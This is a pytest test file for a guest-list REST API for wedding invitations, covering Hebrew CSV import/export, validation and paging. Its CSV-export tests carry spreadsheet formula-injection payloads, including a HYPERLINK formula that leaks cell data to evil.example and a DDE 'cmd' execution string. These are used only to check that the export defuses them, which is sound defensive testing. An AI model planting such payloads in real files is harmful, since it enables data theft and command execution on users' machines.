"""Guests over REST: add, page and filter, edit and mark answers, import JSON or CSV
with a result per row, export a CSV Excel opens with Hebrew intact."""
from __future__ import annotations

import csv
import io

from tests.api_helpers import seed


def _url(world, tail=""):
    return f"/api/events/{world.event_id}/guests{tail}"


def _add(client, world, **fields):
    r = client.post(_url(world), json=fields, headers=world.headers("admin"))
    assert r.status_code == 201, r.get_json()
    return r.get_json()


def _names(page):
    return [g["first_name"] for g in page["items"]]


def test_a_new_guest_comes_back_with_every_field_and_a_normalised_phone(client, runtime):
    world = seed(runtime)
    guest = _add(client, world, first_name="Avi", last_name="Cohen", phone="052-123-4567", side="groom",
                 party_size=3, notes="vegan")
    assert {k: guest[k] for k in ("first_name", "last_name", "phone", "side", "status", "party_size", "notes",
                                  "invitation", "opted_out")} == {
        "first_name": "Avi", "last_name": "Cohen", "phone": "+972521234567", "side": "groom", "status": "invited",
        "party_size": 3, "notes": "vegan", "invitation": "not_sent", "opted_out": False}
    assert set(guest) == {"id", "first_name", "last_name", "phone", "side", "status", "party_size", "children", "answers",
                          "notes", "invitation", "opted_out", "created_at", "updated_at", "link"}
    assert client.get(_url(world, f"/{guest['id']}"), headers=world.headers("viewer")).get_json() == guest


def test_every_guest_comes_with_their_personal_page_link(app_with):
    app = app_with(public_url="https://invites.example.com")
    client, world = app.test_client(), seed(app.extensions["invitebot"])
    h = world.headers("editor")
    avi = _add(client, world, first_name="Avi", phone="052-123-4567")
    link = client.get(_url(world, f"/{avi['id']}/link"), headers=h).get_json()["url"]
    assert avi["link"] == link and link.startswith("https://invites.example.com/r/")
    assert client.get(_url(world, f"/{avi['id']}"), headers=h).get_json()["link"] == link
    assert client.patch(_url(world, f"/{avi['id']}"), json={"side": "groom"}, headers=h).get_json()["link"] == link
    page = client.get(_url(world), headers=h).get_json()
    assert {g["first_name"]: g["link"] for g in page["items"]} == {
        "Avi": link, "Dana": client.get(_url(world, f"/{world.guest_id}/link"), headers=h).get_json()["url"]}
    assert client.get(link.removeprefix("https://invites.example.com")).status_code == 200  # it opens the page
    renewed = client.post(_url(world, f"/{avi['id']}/link"), headers=h).get_json()["url"]
    assert renewed != link and client.get(_url(world, f"/{avi['id']}"), headers=h).get_json()["link"] == renewed


def test_without_a_public_address_a_guests_link_is_null(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    assert client.get(_url(world, f"/{world.guest_id}"), headers=h).get_json()["link"] is None
    assert [g["link"] for g in client.get(_url(world), headers=h).get_json()["items"]] == [None]


def test_a_duplicate_phone_is_refused_with_the_existing_guests_id(client, runtime):
    world = seed(runtime)
    r = client.post(_url(world), json={"first_name": "Someone", "phone": "050-234-5678"},
                    headers=world.headers("editor"))
    assert r.status_code == 409
    error = r.get_json()["error"]
    assert error["code"] == "guest_exists"
    assert error["existing_guest_id"] == world.guest_id
    assert "Dana Levi" in error["message"] and "already on the list" in error["message"]


def test_error_messages_carry_no_invisible_direction_marks(client, runtime):
    """A Hebrew name in an English error: readable in a log and comparable in a script."""
    world = seed(runtime)
    h = world.headers("editor")
    assert client.post(_url(world), json={"first_name": "משה", "last_name": "כהן", "phone": "050-123-4567"},
                       headers=h).status_code == 201
    error = client.post(_url(world), json={"first_name": "Moshe", "phone": "050-123-4567"}, headers=h).get_json()["error"]
    assert error["message"].startswith("משה כהן (+972 50-123-4567) is already on the list of "), error["message"]
    assert not set(error["message"]) & {"\u2066", "\u2067", "\u2068", "\u2069"}


def test_bad_guest_input_gets_a_clear_422_and_adds_nobody(client, runtime):
    world = seed(runtime)
    cases = [
        ({"first_name": "Avi", "phone": "hello"}, "doesn't look like a phone number"),
        ({"first_name": "Avi"}, "'phone' is required"),
        ({"first_name": "", "phone": "+972521234567"}, "needs a name"),
        ({"first_name": "Avi", "phone": "+972521234567", "party_size": 99}, "between 0 and 50"),
        ({"first_name": "Avi", "phone": "+972521234567", "party_size": "3"}, "must be a whole number"),
        ({"first_name": 5, "phone": "+972521234567"}, "must be a string"),
        ({"first_name": "Avi", "phone": "+972521234567", "fist_name": "x"}, "Unknown field 'fist_name'"),
    ]
    for body, says in cases:
        r = client.post(_url(world), json=body, headers=world.headers("admin"))
        assert r.status_code == 422, body
        assert says in r.get_json()["error"]["message"], (body, r.get_json())
    assert client.get(_url(world), headers=world.headers("admin")).get_json()["total"] == 1


def test_paging_and_filters(client, runtime):
    world = seed(runtime)  # Dana, bride, pending
    for i, (name, side) in enumerate([("Avi", "groom"), ("Bat", "groom"), ("Chen", "bride"), ("Dor", None),
                                      ("Eden", "groom")]):
        _add(client, world, first_name=name, phone=f"+97252123456{i}", side=side)
    guests = {g["first_name"]: g["id"] for g in
              client.get(_url(world), headers=world.headers("admin")).get_json()["items"]}
    client.patch(_url(world, f"/{guests['Bat']}"), json={"status": "confirmed", "party_size": 2},
                 headers=world.headers("admin"))
    client.patch(_url(world, f"/{guests['Chen']}"), json={"status": "declined"}, headers=world.headers("admin"))
    h = world.headers("viewer")

    first = client.get(_url(world, "?limit=2"), headers=h).get_json()
    assert (first["total"], first["skip"], first["limit"], _names(first)) == (6, 0, 2, ["Avi", "Bat"])
    third = client.get(_url(world, "?limit=2&skip=4"), headers=h).get_json()
    assert _names(third) == ["Dor", "Eden"]
    assert _names(client.get(_url(world, "?limit=2&skip=2"), headers=h).get_json()) == ["Chen", "Dana"]
    assert _names(client.get(_url(world, "?status=pending"), headers=h).get_json()) == ["Avi", "Dana", "Dor", "Eden"]
    assert _names(client.get(_url(world, "?status=invited"), headers=h).get_json()) == ["Avi", "Dana", "Dor", "Eden"]
    assert _names(client.get(_url(world, "?status=confirmed"), headers=h).get_json()) == ["Bat"]
    assert _names(client.get(_url(world, "?status=declined"), headers=h).get_json()) == ["Chen"]
    assert _names(client.get(_url(world, "?side=GROOM"), headers=h).get_json()) == ["Avi", "Bat", "Eden"]
    assert _names(client.get(_url(world, "?side=groom&status=pending"), headers=h).get_json()) == ["Avi", "Eden"]
    assert _names(client.get(_url(world, "?search=dan"), headers=h).get_json()) == ["Dana"]
    assert _names(client.get(_url(world, "?search=1234562"), headers=h).get_json()) == ["Chen"]


def test_bad_paging_and_filters_are_refused_clearly(client, runtime):
    world = seed(runtime)
    for query in ("limit=0", "limit=501", "limit=ten", "skip=-1", "status=someday", "invitation=lost",
                  "search=" + "x" * 201):
        r = client.get(_url(world, f"?{query}"), headers=world.headers("admin"))
        assert r.status_code == 422, query
        assert r.get_json()["error"]["message"]


def test_patch_edits_fields_and_records_the_answer_through_the_shared_rule(client, runtime):
    world = seed(runtime)
    h = world.headers("editor")
    r = client.patch(_url(world, f"/{world.guest_id}"), json={"status": "confirmed", "party_size": 4,
                                                             "notes": "near the stage"}, headers=h)
    assert r.status_code == 200
    guest = r.get_json()
    assert (guest["status"], guest["party_size"], guest["notes"]) == ("confirmed", 4, "near the stage")
    stats = client.get(f"/api/events/{world.event_id}/stats", headers=h).get_json()
    assert stats["expected_headcount"] == 4 and stats["by_status"]["confirmed"] == 1

    back = client.patch(_url(world, f"/{world.guest_id}"), json={"status": "pending"}, headers=h).get_json()
    assert back["status"] == "invited"

    other = _add(client, world, first_name="Avi", phone="+972521234567")
    clash = client.patch(_url(world, f"/{other['id']}"), json={"phone": "+972502345678"}, headers=h)
    assert clash.status_code == 409
    assert clash.get_json()["error"]["existing_guest_id"] == world.guest_id

    for body in ({"status": "someday"}, {"party_size": -1}, {"first_name": None}, {"side": 7}):
        r = client.patch(_url(world, f"/{other['id']}"), json=body, headers=h)
        assert r.status_code == 422, body
    assert client.get(_url(world, f"/{other['id']}"), headers=h).get_json() == other


def test_stats_count_the_maybes_among_the_pending_and_hold_just_the_documented_keys(client, runtime):
    from bot.api.openapi import build_openapi

    world = seed(runtime)
    h = world.headers("admin")
    avi = _add(client, world, first_name="Avi", phone="052-123-4567")
    assert client.patch(_url(world, f"/{avi['id']}"), json={"status": "maybe"}, headers=h).status_code == 200
    stats = client.get(f"/api/events/{world.event_id}/stats", headers=h).get_json()
    assert (stats["total"], stats["by_status"]["invited"], stats["maybe"]) == (2, 2, 1)  # a maybe is still pending
    documented = build_openapi()["components"]["schemas"]["Stats"]
    assert set(stats) == set(documented["properties"]) == set(documented["required"])


def test_removing_a_guest(client, runtime):
    world = seed(runtime)
    assert client.delete(_url(world, f"/{world.guest_id}"), headers=world.headers("admin")).status_code == 204
    r = client.get(_url(world, f"/{world.guest_id}"), headers=world.headers("admin"))
    assert r.status_code == 404 and r.get_json()["error"]["message"] == "Guest not found."


def test_import_a_json_list_reports_each_row(client, runtime):
    world = seed(runtime)
    rows = [
        {"first_name": "Avi", "last_name": "Cohen", "phone": "052-123-4567", "side": "groom", "party_size": 2},
        {"first_name": "Dana again", "phone": "+972502345678"},
        {"first_name": "Nobody", "phone": "12"},
        {"phone": "+972521111111"},
        {"first_name": "Avi twin", "phone": "0521234567"},
    ]
    r = client.post(_url(world, "/import"), json=rows, headers=world.headers("editor"))
    assert r.status_code == 200
    result = r.get_json()
    assert (result["created"], result["duplicates"], result["rejected"]) == (1, 2, 2)
    by_row = {row["row"]: row for row in result["rows"]}
    assert by_row[1]["result"] == "created"
    assert by_row[2] == {"row": 2, "result": "duplicate", "existing_id": world.guest_id, "added_by": "Noa",
                         "name": "Dana again"}   # the name the row gave, the existing guest's id
    assert by_row[1]["landline"] is False
    assert by_row[3]["result"] == "rejected" and "phone" in by_row[3]["reason"]
    assert by_row[4]["result"] == "rejected" and "name" in by_row[4]["reason"]
    assert by_row[5]["result"] == "duplicate" and by_row[5]["existing_id"] == by_row[1]["id"]
    assert by_row[5]["repeats_row"] == 1   # the same number earlier in this import
    avi = client.get(_url(world, f"/{by_row[1]['id']}"), headers=world.headers("viewer")).get_json()
    assert (avi["phone"], avi["side"], avi["party_size"]) == ("+972521234567", "groom", 2)


def test_import_of_a_badly_typed_json_list_is_refused_whole(client, runtime):
    world = seed(runtime)
    r = client.post(_url(world, "/import"), json=[{"first_name": "Avi", "phone": "+972521234567"},
                                                   {"first_name": "Bat", "phone": 972521234568}],
                    headers=world.headers("admin"))
    assert r.status_code == 422
    assert r.get_json()["error"] == {"code": "invalid_type", "message": "Row 2: 'phone' must be a string.", "row": 2}
    r = client.post(_url(world, "/import"), json={"first_name": "Avi"}, headers=world.headers("admin"))
    assert r.status_code == 422 and "JSON list" in r.get_json()["error"]["message"]
    assert client.get(_url(world), headers=world.headers("admin")).get_json()["total"] == 1


def test_an_unknown_field_in_an_import_list_names_its_row_and_imports_nothing(client, runtime):
    world = seed(runtime)
    rows = [{"first_name": "Avi", "phone": "+972521234567"}, {"first_name": "Bat", "phone": "12"},
            {"first_name": "Cy", "phone": "+972521234569", "foo": "x"}]
    r = client.post(_url(world, "/import"), json=rows, headers=world.headers("admin"))
    assert r.status_code == 422
    error = r.get_json()["error"]
    assert (error["code"], error["row"]) == ("unknown_field", 3)
    assert error["message"].startswith("Row 3: unknown field 'foo'; the fields are: first_name, last_name, phone")
    r = client.post(_url(world, "/import"), json=[rows[0], "Bat"], headers=world.headers("admin"))
    assert r.status_code == 422 and r.get_json()["error"] == {
        "code": "invalid_body", "message": "Row 2 must be a JSON object.", "row": 2}
    assert client.get(_url(world), headers=world.headers("admin")).get_json()["total"] == 1
    # Without the stray field the same list imports, each row on its own.
    del rows[2]["foo"]
    result = client.post(_url(world, "/import"), json=rows, headers=world.headers("admin")).get_json()
    assert [(row["row"], row["result"]) for row in result["rows"]] == [(1, "created"), (2, "rejected"),
                                                                       (3, "created")]


HEBREW_CSV = "שם,טלפון,צד,כמות\nאבי כהן,052-123-4567,חתן,2\nדנה לוי,050-234-5678,כלה,1\nבלי טלפון,,כלה,\n"


def test_import_a_csv_upload_with_hebrew_headers(client, runtime):
    world = seed(runtime)
    r = client.post(_url(world, "/import"), headers=world.headers("admin"), content_type="multipart/form-data",
                    data={"file": (io.BytesIO(HEBREW_CSV.encode("utf-8-sig")), "guests.csv")})
    assert r.status_code == 200, r.get_json()
    result = r.get_json()
    assert (result["created"], result["duplicates"], result["rejected"]) == (1, 1, 1)
    assert [(row["row"], row["result"]) for row in result["rows"]] == [(2, "created"), (3, "duplicate"),
                                                                       (4, "rejected")]
    assert result["rows"][2]["reason"] == "no phone number"
    avi = client.get(_url(world, f"/{result['rows'][0]['id']}"), headers=world.headers("admin")).get_json()
    assert (avi["first_name"], avi["last_name"], avi["side"], avi["party_size"]) == ("אבי", "כהן", "חתן", 2)


def test_import_a_csv_body_and_refuse_what_is_not_a_csv(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    r = client.post(_url(world, "/import"), data="name,phone\nAvi,+972521234567\n", content_type="text/csv",
                    headers=h)
    assert r.status_code == 200 and r.get_json()["created"] == 1
    r = client.post(_url(world, "/import"), data="", content_type="text/csv", headers=h)
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "not_a_csv"
    r = client.post(_url(world, "/import"), headers=h, content_type="multipart/form-data",
                    data={"other": (io.BytesIO(b"x"), "x.csv")})
    assert r.status_code == 422 and "'file'" in r.get_json()["error"]["message"]
    r = client.post(_url(world, "/import"), data=b"<xml/>", content_type="application/xml", headers=h)
    assert r.status_code == 415 and r.get_json()["error"]["code"] == "unsupported_media_type"
    big = b"name,phone\n" + b"Avi,+972521234567\n" * 320_000  # about 5.5 MB
    for form in ({"data": big, "content_type": "text/csv"},
                 {"content_type": "multipart/form-data", "data": {"file": (io.BytesIO(big), "big.csv")}}):
        r = client.post(_url(world, "/import"), headers=h, **form)
        assert r.status_code == 413 and r.get_json()["error"]["code"] == "too_large", r.get_json()
    assert client.get(_url(world), headers=h).get_json()["total"] == 2


def test_export_is_a_csv_excel_opens_with_hebrew_intact(client, runtime):
    world = seed(runtime)
    _add(client, world, first_name="אבי", last_name="כהן", phone="052-123-4567", side="חתן")
    r = client.get(_url(world, ".csv"), headers=world.headers("viewer"))
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "filename*=UTF-8''Noa%20%26%20Eli" in disposition
    assert 'filename="Noa_Eli_s_wedding_guests.csv"' in disposition     # the old clients' name reads too
    assert r.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"))))
    # Phones start with "+": written after a ' so Excel keeps them as text, and does not show the '.
    assert [(row["first_name"], row["last_name"], row["phone"], row["side"], row["status"]) for row in rows] == [
        ("Dana", "Levi", "'+972502345678", "bride", "invited"), ("אבי", "כהן", "'+972521234567", "חתן", "invited")]
    only_groom = client.get(_url(world, ".csv?side=חתן"), headers=world.headers("viewer"))
    assert len(list(csv.DictReader(io.StringIO(only_groom.data.decode("utf-8-sig"))))) == 1


def _exported(response):
    assert response.status_code == 200, response.get_data(as_text=True)
    return [row["first_name"] for row in csv.DictReader(io.StringIO(response.data.decode("utf-8-sig")))]


def test_the_export_is_paged_only_when_asked_and_checks_paging_like_the_list(client, runtime):
    world = seed(runtime)
    h = world.headers("viewer")
    rows = [{"first_name": f"Guest {n}", "phone": f"+9725212340{n:02d}"} for n in range(1, 61)]
    assert client.post(_url(world, "/import"), json=rows, headers=world.headers("admin")).get_json()["created"] == 60
    everyone = _exported(client.get(_url(world, ".csv"), headers=h))
    assert len(everyone) == 61 and everyone[:3] == ["Dana", "Guest 1", "Guest 2"]  # not cut at a page of 50
    assert _exported(client.get(_url(world, ".csv?skip=1&limit=2"), headers=h)) == ["Guest 1", "Guest 2"]
    assert _exported(client.get(_url(world, ".csv?skip=59"), headers=h)) == ["Guest 59", "Guest 60"]
    assert _exported(client.get(_url(world, ".csv?limit=500"), headers=h)) == everyone
    for query in ("limit=9999", "skip=-3", "limit=0", "limit=", "skip=x"):
        listed = client.get(_url(world, f"?{query}"), headers=h)
        exported = client.get(_url(world, f".csv?{query}"), headers=h)
        assert (exported.status_code, exported.get_json()) == (listed.status_code, listed.get_json()), query
        assert exported.status_code == 422 and exported.get_json()["error"]["code"] == "bad_paging", query


def test_nul_characters_are_refused_before_they_reach_the_database(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    r = client.post(_url(world), json={"first_name": "A\x00vi", "phone": "+972521234567"}, headers=h)
    assert r.status_code == 422 and "NUL" in r.get_json()["error"]["message"]
    assert client.get(_url(world, "?search=a%00b"), headers=h).status_code == 422
    big = ("name,phone\n" + "Avi,+972521234567\n" * 400 + "B\x00at,+972521234568\n").encode()
    r = client.post(_url(world, "/import"), data=big, content_type="text/csv", headers=h)
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "not_a_csv"
    assert client.get(_url(world), headers=h).get_json()["total"] == 1


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def test_export_never_hands_excel_a_formula(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    for i, formula in enumerate(FORMULAS):
        r = client.post(_url(world), json={"first_name": formula, "notes": formula, "side": "=1+1",
                                           "phone": f"+97252123400{i}"}, headers=h)
        assert r.status_code == 201, r.get_data(as_text=True)
    r = client.get(_url(world, ".csv"), headers=h)
    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
    exported = {row["notes"] for row in rows if row["notes"]}
    assert exported == {"'" + f.strip() for f in FORMULAS}  # the API trims the tab and the CR itself
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_an_exported_list_imports_back_exactly_as_it_was(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    for i, (first, last, side, notes) in enumerate([
            ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-Levi", "+1 side", "-minus"),
            ("@evil", "Cohen", "@work", "=1+1"), ("'quoted", "O'Brien", "'side", "it's -fine"),
            ("Rina", "'-dash", "''=x", "'-x")]):
        assert client.post(_url(world), json={"first_name": first, "last_name": last, "side": side, "notes": notes,
                                               "party_size": 3, "children": 1, "phone": f"+97252123400{i}"},
                           headers=h).status_code == 201
    exported = client.get(_url(world, ".csv"), headers=h).data
    assert "'=HYPERLINK" in exported.decode("utf-8-sig") and "'@evil" in exported.decode("utf-8-sig")

    def fields(event_id):
        page = client.get(f"/api/events/{event_id}/guests", headers=h).get_json()["items"]
        return sorted(tuple(g[k] for k in ("first_name", "last_name", "phone", "side", "party_size", "children",
                                            "notes")) for g in page)

    for kind, data in (("text/csv", exported), ("multipart/form-data", {"file": (io.BytesIO(exported), "g.csv")})):
        copy = client.post("/api/events", json={"name": "Copy"}, headers=h).get_json()["id"]
        r = client.post(f"/api/events/{copy}/guests/import", data=data, content_type=kind, headers=h)
        assert (r.get_json()["created"], r.get_json()["rejected"]) == (5, 0), r.get_json()
        assert fields(copy) == fields(world.event_id), kind


def test_a_json_import_reads_the_exports_guard_too(client, runtime):
    world = seed(runtime)
    r = client.post(_url(world, "/import"), json=[{"first_name": "'@evil", "phone": "'+972521234567",
                                                   "notes": "'-minus", "side": "'=x"},
                                                  {"first_name": "'Quote", "phone": "+972521234568"}],
                    headers=world.headers("admin"))
    assert r.get_json()["created"] == 2
    page = client.get(_url(world, "?search=evil"), headers=world.headers("admin")).get_json()["items"]
    assert [(g["first_name"], g["phone"], g["notes"], g["side"]) for g in page] == [
        ("@evil", "+972521234567", "-minus", "=x")]
    assert client.get(_url(world, "?search=quote"), headers=world.headers("admin")).get_json()["items"][0][
        "first_name"] == "'Quote"  # an apostrophe that guards nothing is the name's own


def test_more_children_than_the_party_is_told_in_proper_english(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    said = {
        (1, 3): "The party has 1 person, so it cannot have 3 children.",
        (2, 3): "The party has 2 people, so it cannot have 3 children.",
        (0, 1): "The party size is 0, so it cannot have children.",
    }
    rows = [{"first_name": f"Guest {i}", "phone": f"+97252123400{i}", "party_size": party, "children": children}
            for i, (party, children) in enumerate(said)]
    result = client.post(_url(world, "/import"), json=rows, headers=h).get_json()
    assert [(row["row"], row["result"], row["reason"]) for row in result["rows"]] == [
        (n, "rejected", reason) for n, reason in enumerate(said.values(), start=1)]
    for row, reason in zip(rows, said.values()):
        r = client.post(_url(world), json=row, headers=h)
        assert r.status_code == 422 and r.get_json()["error"] == {"code": "bad_children", "message": reason}
        r = client.patch(_url(world, f"/{world.guest_id}"),
                         json={"party_size": row["party_size"], "children": row["children"]}, headers=h)
        assert r.status_code == 422 and r.get_json()["error"]["message"] == reason


def test_a_party_size_of_infinity_in_a_csv_is_a_line_refused_not_a_crash(client, runtime):
    world = seed(runtime)
    body = "name,phone,party\nAvi,+972521234567,inf\nBea,+972521234568,1e999\nCy,+972521234569,2\n".encode()
    r = client.post(_url(world, "/import"), data=body, content_type="text/csv", headers=world.headers("admin"))
    assert r.status_code < 500, r.get_data(as_text=True)
    assert client.get(_url(world, "?search=Cy"), headers=world.headers("admin")).get_json()["total"] == 1
    assert client.get(_url(world, "?search=Avi"), headers=world.headers("admin")).get_json()["total"] == 0


def test_search_takes_percent_and_underscore_literally(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    assert client.post(_url(world), json={"first_name": "Ava_Lee", "phone": "+972521234560"}, headers=h).status_code == 201
    total = client.get(_url(world), headers=h).get_json()["total"]
    assert total >= 2
    for term, expected in [("%", 0), ("_", 1), ("ava_", 1), ("a%a", 0), ("ava%lee", 0)]:
        found = client.get(_url(world), query_string={"search": term}, headers=h).get_json()["total"]
        assert found == expected, (term, found)


def test_a_hebrew_events_export_falls_back_to_a_plain_file_name(client, runtime):
    world = seed(runtime)
    h = world.headers("admin")
    event = client.post("/api/events", json={"name": "החתונה של מאיה ואלעד"}, headers=h).get_json()
    disposition = client.get(f"/api/events/{event['id']}/guests.csv", headers=h).headers["Content-Disposition"]
    assert 'filename="guests.csv"' in disposition and "filename*=UTF-8''%D7%94%D7%97%D7%AA" in disposition
